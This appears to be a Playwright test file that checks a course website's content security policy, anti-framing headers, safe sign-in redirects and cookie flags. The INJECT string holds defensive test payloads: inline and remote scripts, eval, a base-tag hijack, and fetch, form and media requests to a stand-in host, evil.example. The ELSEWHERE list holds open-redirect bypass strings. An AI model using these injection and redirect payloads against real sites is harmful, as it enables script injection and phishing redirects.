"""What the content security policy, the frame policy, redirects and cookies keep a real browser from."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import Visit
from tests.e2e.pages import LESSONS, conversation
from tests.e2e.panel import Panel, open_lesson
from tests.e2e.site import OONA, PASSWORD, SAM, TESS, Site
from tests.e2e.test_sharing import publish
from tests.fakes.claude import Answer, Gate

# What somebody would put on a page who has found a way to: programs and styles, and what carries words out.
INJECT = """() => {
    window.refused = [];
    document.addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
    const put = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields));
    const parse = html => document.body.insertAdjacentHTML("beforeend", html);
    put("script", { textContent: "window.__pwned = 'script'" });
    put("script", { src: "https://evil.example/s.js" });
    put("style", { textContent: "body { outline: 7px solid red }" });
    put("link", { rel: "stylesheet", href: "https://evil.example/s.css" });
    parse("<p id='styled' style='position: fixed'>x</p><button id='handled' onclick='window.__pwned = 1'>x</button>");
    document.getElementById("handled").click();
    // By itself, since what a test evaluates may evaluate.
    setTimeout(() => { window.eval("window.__pwned = 'eval'") });
    put("base", { href: "https://evil.example/" });
    put("img", { src: "https://evil.example/a.png" });
    put("video", { src: "https://evil.example/v.webm" });
    put("iframe", { src: "https://evil.example/" });
    fetch("https://evil.example/").catch(() => {});
    put("form", { action: "https://evil.example/" }).requestSubmit();
}"""
REFUSED = {
    "script-src", "script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem", "base-uri", "img-src",
    "media-src", "frame-src", "connect-src", "form-action",
}  # fmt: skip
STATE = """() => ({
    refused: [...new Set(refused)].sort(),
    ran: window.__pwned ?? null,
    outline: getComputedStyle(document.body).outlineStyle,
    position: getComputedStyle(document.getElementById("styled")).position,
    base: document.baseURI === location.href,
})"""
UNTOUCHED = {"refused": sorted(REFUSED), "ran": None, "outline": "none", "position": "static", "base": True}
# What Chromium says of each of these, and the requests that it has thought of before.
SAID = r"Content Security Policy|asks for https://evil\.example"
NO_PAGE = "chrome-error://chromewebdata/"
TELL = "document.addEventListener('securitypolicyviolation', event => console.error(event.effectiveDirective))"
ELSEWHERE = [
    "//evil.example",
    "/\\evil.example",
    "\t//evil.example",
    "https:evil.example",
    "http://127.0.0.1@evil.example/",
]


@pytest.mark.parametrize("place", ["lesson", "share", "admin"])
def test_what_is_put_on_a_page_does_nothing(site: Site, visit: Visit, place: str):
    if place == "share":
        email, path = "", publish(visit(SAM), f"{conversation(site)}share/")
    else:
        email, path = {"lesson": (SAM, site.lessons()[LESSONS["text with code"]]), "admin": (TESS, "/admin/")}[place]
    page = visit(email, forgiving=SAID)
    page.goto(path)
    page.evaluate(INJECT)
    page.wait_for_function("names => names.every(name => refused.includes(name))", arg=sorted(REFUSED))
    assert page.evaluate(STATE) == UNTOUCHED
    assert page.url.startswith(site.url)


@pytest.fixture
def framed(site: Site, visit: Visit) -> list[str]:
    """Addresses that somebody would like to lay something over."""
    shared = publish(visit(SAM), f"{conversation(site)}share/")
    paths = ["/", "/accounts/login/", site.lessons()[LESSONS["text with code"]], "/accounts/profile/"]
    return [shared, *(f"{site.url}{path}" for path in paths)]


def test_no_page_is_shown_in_a_frame_of_others(visit: Visit, framed: list[str]):
    page = visit(SAM, forgiving=r"frame-ancestors|X-Frame-Options|asks for http://localhost:")
    with _serving(_frames(framed)) as address:
        page.goto(address)
        assert _shown_in_frames(page, len(framed)) == [NO_PAGE] * len(framed)


def test_no_page_is_shown_in_a_frame_of_the_site(visit: Visit, framed: list[str]):
    page = visit(SAM, forgiving=r"frame-ancestors|X-Frame-Options")
    page.route("**/framing", lambda route: route.fulfill(content_type="text/html", body=_frames(framed)))
    page.goto("/framing")
    assert _shown_in_frames(page, len(framed)) == [NO_PAGE] * len(framed)


def _shown_in_frames(page: Page, count: int) -> list[str]:
    """Addresses of what they came to."""

    def have_all_come(*_frame: object) -> bool:
        return len(page.frames) == count + 1 and all(frame.url for frame in page.frames[1:])

    if not have_all_come():
        page.wait_for_event("framenavigated", have_all_come)
    return [frame.url for frame in page.frames[1:]]


def _frames(addresses: list[str]) -> str:
    frames = "".join(f"<iframe src='{address}'></iframe>" for address in addresses)
    return f"<!doctype html><title>Framing</title><link rel=icon href=data:,>{frames}"


@contextmanager
def _serving(page: str) -> Iterator[str]:
    """At a host of its own, as browsers count. Not by Playwright, whose pages Chromium keeps from this machine."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        try:
            yield f"http://localhost:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join()


@pytest.mark.parametrize("there", ELSEWHERE)
def test_after_the_sign_in_one_stays_on_the_site(site: Site, visit: Visit, there: str):
    # Oona, who has no other test's session to lose.
    page = visit()
    page.goto(f"/accounts/login/?next={quote(there)}")
    page.get_by_label("Email").fill(OONA)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(f"{site.url}/")
    expect(page.get_by_role("heading", name="My universities")).to_be_visible()
    # No script reads what signs one in, nor what forms are signed with.
    assert page.evaluate("document.cookie") == ""
    cookies = [(cookie["name"], cookie["httpOnly"], cookie["sameSite"]) for cookie in page.context.cookies()]
    assert sorted(cookies) == [("csrftoken", True, "Lax"), ("sessionid", True, "Lax")]
    # Nor does one leave it where one is signed in already, or signs out.
    page.goto(f"/accounts/login/?next={quote(there)}")
    expect(page).to_have_url(f"{site.url}/")
    page.goto(f"/accounts/logout/?next={quote(there)}")
    page.get_by_role("main").get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("link", name="Sign up")).to_be_visible()
    assert page.url.startswith(f"{site.url}/")


def test_after_the_sign_in_one_goes_on_where_one_wanted_to(visit: Visit):
    page = visit()
    page.goto("/accounts/profile/")
    page.get_by_label("Email").fill(OONA)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="Profile", level=1)).to_be_visible()


def test_no_page_breaks_the_policy_by_itself(site: Site, visit: Visit, gate: Gate):
    page = _telling(visit(SAM))
    for path in ("/", "/north/", "/north/courses/thinking-with-data/", "/accounts/profile/"):
        page.goto(path)
    panel = open_lesson(page, site.lessons()["Confounding"])
    site.claude.will(Answer(["It is *one*.\n\n", "$x^2$ and [a link](https://example.org/)."], gate=gate, gate_after=1))
    panel.ask("What is a confounder?")
    expect(panel.body.locator("em")).to_have_text("one")
    gate.release()
    panel.expect_end()
    page.get_by_role("link", name="Whole page").click()
    expect(Panel(page).body.locator("math")).to_have_count(1)
    shared = publish(page, f"{page.url.partition('?')[0]}share/")
    _telling(visit()).goto(shared)

    author = _telling(visit(TESS))
    author.goto("/admin/courses/course/")
    author.get_by_role("row", name="Thinking with Data").get_by_role("link", name="Modules and content").click()
    author.goto("/admin/courses/contentitem/?q=Confounding")
    author.locator("#result_list tbody th a").first.click()
    author.get_by_role("button", name="Preview as students see it").click()
    expect(author.frame_locator("iframe").get_by_role("heading", level=1)).to_be_visible()
    author.goto("/admin/")


def _telling(page: Page) -> Page:
    """Each violation becomes a complaint, which the test ends with."""
    page.add_init_script(TELL)
    return page
